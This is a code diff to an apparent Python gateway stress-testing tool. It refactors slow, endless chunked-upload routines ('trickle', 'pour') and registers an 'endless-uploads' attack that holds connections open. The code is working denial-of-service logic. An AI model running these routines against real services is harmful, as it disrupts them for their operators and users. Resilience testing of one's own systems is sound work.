@@ -38,7 +38,8 @@ async def trickle(attacker: Attacker, head: bytes, first: bytes, drop: bytes, ev
             status = asyncio.ensure_future(status_of(attacker, reader, attacker.left))
             while attacker.going and not status.done():
                 writer.write(drop)
-                await writer.drain()
+                async with asyncio.timeout(attacker.left + 0.1):
+                    await writer.drain()
                 await attacker.pause(every)
             status.cancel()
         except OSError:
@@ -90,24 +91,13 @@ async def leave_uploads(attacker: Attacker) -> None:
 
 
 async def pour(attacker: Attacker, head: bytes, first: bytes, drop: bytes, rate: float) -> None:
-    """Send chunked drops at `rate` bytes a second for as long as the gateway takes them."""
-    while attacker.going:
-        reader, writer = await attacker.connect()
-        try:
-            writer.write(head + b"%x\r\n%s\r\n" % (len(first), first))
-            status = asyncio.ensure_future(status_of(attacker, reader, attacker.left))
-            piece = b"%x\r\n%s\r\n" % (len(drop), drop)
-            while attacker.going and not status.done():
-                writer.write(piece)
-                async with asyncio.timeout(attacker.left + 0.1):
-                    await writer.drain()
-                await attacker.pause(len(drop) / rate)
-            status.cancel()
-        except OSError:
-            attacker.count("cut off")
-        finally:
-            await close(writer)
-        await attacker.pause(0.2)
+    """Send chunks of `drop` at `rate` bytes a second for as long as the gateway takes them."""
+    await trickle(attacker, head, chunk(first), chunk(drop), len(drop) / rate)
+
+
+def chunk(data: bytes) -> bytes:
+    """Return `data` as a chunk of HTTP's chunked transfer coding."""
+    return b"%x\r\n%s\r\n" % (len(data), data)
 
 
 @attack("endless-uploads", "4 uploads without an end, 8 MB a second each")
